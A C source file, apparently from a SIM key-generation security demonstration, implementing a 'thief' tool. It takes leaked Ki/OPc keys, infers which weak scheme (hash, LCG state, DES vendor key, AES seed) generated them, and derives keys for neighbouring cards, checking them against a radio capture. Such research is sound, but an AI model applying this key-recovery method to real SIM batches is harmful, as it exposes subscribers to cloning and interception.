/* thief_generator - has a few keys of a batch, guesses how they were made, and makes the others.
 *
 *     simrite-thief-generator CAPTURED OUT
 *
 * CAPTURED holds radio.pcapng, and any of: leaked.csv, a table with ICCID, IMSI, Ki and OPc of a few cards (a
 * sample delivery, a support mail); printed-iccid.txt, the number on one card; des-space.txt and
 * seed-space.txt, what is known of a vendor key and of a seed. The schemes it knows are those of
 * weak/generator.h; which one it was, and with what secret, it finds by search. It begins without a leaked
 * key, then takes one, then two: the first number that is enough is what it tells. Whether a key it made is
 * a card's, the radio record says. */
#include <inttypes.h>
#include <stdlib.h>
#include <string.h>

#include "theft/attempt.h"
#include "theft/captured.h"
#include "theft/iccid.h"
#include "theft/table.h"
#include "weak/des_search.h"
#include "weak/seed_search.h"

enum {
	LEAKED_MAX = 16,
	AROUND = 2000, /* cards on either side of a known one */
	LEAKED_BYTES = 8192,
	SEED_BITS = 22,    /* of a seed of which nothing is known: those are tried first, and last */
	DES_BITS_MAX = 40, /* what a thief in a demonstration would search */
};

struct card {
	char imsi[16], iccid[ICCID_TEXT];
	struct weak_keys keys;
};

struct generator {
	struct attempt attempt;
	struct card leaked[LEAKED_MAX];
	unsigned leaked_count;
	char printed[ICCID_TEXT];
	/* What was found out. */
	bool known;
	enum weak_scheme scheme;
	enum weak_text text;
	uint64_t secret;
	unsigned needed;
	/* What it cost. */
	uint64_t searched;
	double seconds;
};

/* ---- what was captured ---- */

static int take_leaked(struct generator *g, const char *captured, struct fault *fault)
{
	static const char *const needed[] = {"IMSI", "ICCID", "Ki", "OPc", NULL};
	char path[512], text[LEAKED_BYTES];
	struct table table;
	FILE *file;
	size_t length;

	(void)snprintf(path, sizeof(path), "%s/leaked.csv", captured);
	if (!(file = fopen(path, "re")))
		return 0;
	length = fread(text, 1, sizeof(text), file);
	fclose(file);
	if (!table_find(&table, text, length, needed))
		return fault_set(fault, FAULT_INPUT, NULL, "leaked.csv is no table of keys");
	while (table_next(&table) && g->leaked_count < LEAKED_MAX) {
		struct card *card = &g->leaked[g->leaked_count];

		if (!iccid_is(table_field(&table, "ICCID")) || !table_bytes(&table, "Ki", card->keys.k, 16) ||
		    !table_bytes(&table, "OPc", card->keys.opc, 16))
			continue;
		(void)snprintf(card->imsi, sizeof(card->imsi), "%.15s", table_field(&table, "IMSI"));
		(void)snprintf(card->iccid, sizeof(card->iccid), "%.20s", table_field(&table, "ICCID"));
		g->leaked_count++;
	}
	return 0;
}

static int take(struct generator *g, const char *captured, struct fault *fault)
{
	char line[64];
	int got = captured_line(line, sizeof(line), captured, "printed-iccid.txt", fault);

	if (got < 0)
		return -1;
	if (got == 1 && iccid_is(line))
		(void)snprintf(g->printed, sizeof(g->printed), "%.20s", line);
	return take_leaked(g, captured, fault);
}

/* ---- making the others ---- */

/* Try a key on the record: for one subscriber, or (NULL) whoever it fits. */
static bool try_keys(struct generator *g, const char *imsi, const struct weak_keys *keys, const char *from)
{
	return attempt_key(&g->attempt, imsi, keys->k, keys->opc, from);
}

/* Schemes that know the subscriber's number: everybody heard. */
static unsigned by_imsi(struct generator *g)
{
	uint8_t vendor_key[8];
	struct weak_keys keys;
	unsigned count = 0;

	des_key(vendor_key, g->secret);
	for (size_t i = 0; i < g->attempt.record.count; i++) {
		const char *imsi = g->attempt.record.sessions[i].imsi;
		int e = g->scheme == WEAK_HASH ? weak_hash(&keys, WEAK_IMSI, "", imsi)
					       : weak_des_imsi(&keys, vendor_key, imsi);

		if (e == 0 && attempt_wants(&g->attempt, imsi))
			count += try_keys(g, imsi, &keys, weak_name(g->scheme));
	}
	return count;
}

/* Schemes that know the card's number: those around a known one. */
static unsigned by_iccid(struct generator *g, const char *known)
{
	char number[ICCID_TEXT];
	struct weak_keys keys;
	unsigned count = 0;
	long step;
	int e;

	for (step = -AROUND; step <= AROUND; step++) {
		if (!iccid_neighbour(number, known, step))
			continue;
		if (g->scheme == WEAK_AES_SEED)
			e = weak_aes_seed(&keys, (uint32_t)g->secret, number);
		else
			e = weak_hash(&keys, g->text, number, "");
		if (e == 0)
			count += try_keys(g, NULL, &keys, weak_name(g->scheme));
	}
	return count;
}

/* A hash of both numbers: cards and subscribers are numbered in step, from a leaked card on. */
static unsigned by_both(struct generator *g, const struct card *known)
{
	long long imsi = atoll(known->imsi);
	char number[ICCID_TEXT], subscriber[24];
	struct weak_keys keys;
	unsigned count = 0;

	for (long step = -AROUND; step <= AROUND; step++) {
		(void)snprintf(subscriber, sizeof(subscriber), "%015lld", imsi + step);
		if (iccid_neighbour(number, known->iccid, step) &&
		    weak_hash(&keys, WEAK_BOTH, number, subscriber) == 0)
			count += try_keys(g, subscriber, &keys, weak_name(g->scheme));
	}
	return count;
}

/* The generator that runs on from card to card: back from the leaked one, and forward. */
static unsigned by_state(struct generator *g)
{
	uint32_t x = (uint32_t)g->secret;
	struct weak_keys keys;
	unsigned count = 0;

	weak_lcg_back(&x, AROUND * WEAK_LCG_DRAWS);
	for (int i = 0; i < 2 * AROUND; i++) {
		weak_lcg(&keys, &x);
		count += try_keys(g, NULL, &keys, weak_name(g->scheme));
	}
	return count;
}

static unsigned predict(struct generator *g, const struct card *from)
{
	const char *iccid = from ? from->iccid : g->printed;

	switch (g->scheme) {
	case WEAK_LCG:
		return by_state(g);
	case WEAK_DES_IMSI:
		return by_imsi(g);
	case WEAK_AES_SEED:
		return by_iccid(g, iccid);
	default:
		if (g->text == WEAK_BOTH)
			return from ? by_both(g, from) : 0;
		return g->text == WEAK_IMSI ? by_imsi(g) : iccid[0] ? by_iccid(g, iccid) : 0;
	}
}

/* ---- finding out ---- */

/* Does what was found make this leaked card's keys, too? */
static bool confirms(const struct generator *g, const struct card *card, const struct card *first)
{
	uint8_t vendor_key[8];
	struct weak_keys keys;
	uint32_t x = (uint32_t)g->secret;

	switch (g->scheme) {
	case WEAK_DES_IMSI:
		des_key(vendor_key, g->secret);
		return weak_des_imsi(&keys, vendor_key, card->imsi) == 0 &&
		       !memcmp(&keys, &card->keys, sizeof(keys));
	case WEAK_AES_SEED:
		return weak_aes_seed(&keys, x, card->iccid) == 0 && !memcmp(&keys, &card->keys, sizeof(keys));
	case WEAK_HASH:
		return weak_hash(&keys, g->text, card->iccid, card->imsi) == 0 &&
		       !memcmp(&keys, &card->keys, sizeof(keys));
	default: /* somewhere near on the way of the state */
		weak_lcg_back(&x, AROUND * WEAK_LCG_DRAWS);
		for (int i = 0; i < 2 * AROUND; i++) {
			weak_lcg(&keys, &x);
			if (!memcmp(&keys, &card->keys, sizeof(keys)))
				return true;
		}
		return card == first;
	}
}

static void note_search(struct generator *g, const struct swept *swept)
{
	g->searched += swept->tried;
	g->seconds += swept->seconds;
}

/* Hash functions have no secret: the few texts there are. */
static bool find_hash(struct generator *g, const struct card *card)
{
	g->scheme = WEAK_HASH;
	for (g->text = 0; g->text < WEAK_TEXTS; g->text++)
		if (confirms(g, card, card))
			return true;
	return false;
}

static int find_seed(struct generator *g, const struct card *card, enum weak_scheme scheme,
		     const char *captured, struct fault *fault)
{
	struct captured_space space = {.bits = SEED_BITS};
	struct seed_search search = {.scheme = scheme, .keys = &card->keys, .iccid = card->iccid};
	struct swept swept;

	if (captured_space(&space, captured, "seed-space.txt", fault) < 0)
		return -1;
	/* A state is not the seed: it may be any, wherever the seed was. */
	search.bits = scheme == WEAK_LCG ? 32 : space.bits;
	g->scheme = scheme;
	if (seed_search(&swept, &search) < 0)
		return fault_set(fault, FAULT_SYSTEM, NULL, "the search did not start");
	note_search(g, &swept);
	g->secret = swept.at;
	return swept.found;
}

static int find_vendor_key(struct generator *g, const struct card *card, const char *captured,
			   struct fault *fault)
{
	struct captured_space space;
	struct des_search search = {.bits = 0};
	struct swept swept;
	int got = captured_space(&space, captured, "des-space.txt", fault);

	if (got < 1 || space.bits > DES_BITS_MAX)
		return got < 0 ? -1
			       : 0; /* all of DES is for a larger thief: make bench says how much larger */
	search.first = space.first;
	search.bits = space.bits;
	weak_imsi_block(search.plain, card->imsi);
	memcpy(search.cipher, card->keys.k, 8);
	g->scheme = WEAK_DES_IMSI;
	if (des_search(&swept, &search) < 0)
		return fault_set(fault, FAULT_INPUT, NULL, "des-space.txt tells of no space of keys");
	note_search(g, &swept);
	g->secret = swept.at;
	return swept.found;
}

/* With `count` leaked keys: what makes all of them? */
static int find_out(struct generator *g, unsigned count, const char *captured, struct fault *fault)
{
	const struct card *first = &g->leaked[0];
	int got = find_hash(g, first);
	unsigned i;

	if (got == 0)
		got = find_seed(g, first, WEAK_LCG, captured, fault);
	if (got == 0)
		got = find_vendor_key(g, first, captured, fault);
	if (got == 0)
		got = find_seed(g, first, WEAK_AES_SEED, captured, fault);
	for (i = 0; got == 1 && i < count; i++) /* a search compares less than all of a card's keys */
		got = confirms(g, &g->leaked[i], first);
	return got;
}

/* Without any: only what has no secret, and a card number to begin with. */
static bool without_leaked(struct generator *g)
{
	g->scheme = WEAK_HASH;
	for (g->text = 0; g->text < WEAK_TEXTS; g->text++)
		if (predict(g, NULL) > 0)
			return true;
	return false;
}

static int work(struct generator *g, const char *captured, struct fault *fault)
{
	unsigned i, count;
	int got;

	if (without_leaked(g)) {
		g->known = true;
		return 0;
	}
	/* One is enough for every scheme it knows; a second only confirms, where it was not on the record. */
	for (count = 1; count <= g->leaked_count && count <= 2; count++) {
		if ((got = find_out(g, count, captured, fault)) < 0)
			return -1;
		if (got == 0)
			break;
		g->known = true;
		g->needed = count;
		if (predict(g, &g->leaked[0]) > 0)
			break;
	}
	for (i = 0; i < g->leaked_count; i++) /* and those it had */
		(void)try_keys(g, g->leaked[i].imsi, &g->leaked[i].keys, "leaked.csv");
	return 0;
}

/* Keys in the loot that were not among the leaked. */
static unsigned predicted(const struct generator *g, unsigned leaked_heard)
{
	unsigned all = g->attempt.loot.key_count;

	return g->known && all > leaked_heard ? all - leaked_heard : 0;
}

static unsigned heard(const struct generator *g)
{
	unsigned count = 0;

	for (unsigned i = 0; i < g->leaked_count; i++)
		for (size_t s = 0; s < g->attempt.record.count; s++)
			if (!strcmp(g->leaked[i].imsi, g->attempt.record.sessions[s].imsi)) {
				count++;
				break;
			}
	return count;
}

static void tell(const struct generator *g)
{
	char more[320], secret[40] = "";

	if (g->known && g->scheme != WEAK_HASH)
		(void)snprintf(secret, sizeof(secret), ",\"secret\":\"%" PRIx64 "\"", g->secret);
	(void)snprintf(more, sizeof(more),
		       ",\"scheme\":\"%s\"%s,\"leaked\":%u,\"needed\":%u,\"predicted\":%u,"
		       "\"searched\":%" PRIu64 ",\"search_seconds\":%.3f",
		       g->known ? weak_name(g->scheme) : "unknown", secret, g->leaked_count, g->needed,
		       predicted(g, heard(g)), g->searched, g->seconds);
	attempt_tell(&g->attempt, "generator", more);
}

static int steal(const char *captured, const char *out, struct fault *fault)
{
	static struct generator g;
	int e = take(&g, captured, fault);

	if (e == 0 && (e = attempt_begin(&g.attempt, captured, out, fault)) == 0) {
		e = work(&g, captured, fault);
		if (attempt_end(&g.attempt, fault) < 0)
			e = -1;
	}
	if (e == 0)
		tell(&g);
	attempt_free(&g.attempt);
	return e;
}

int main(int argc, char **argv)
{
	return attempt_main(argc, argv, "generator", steal);
}
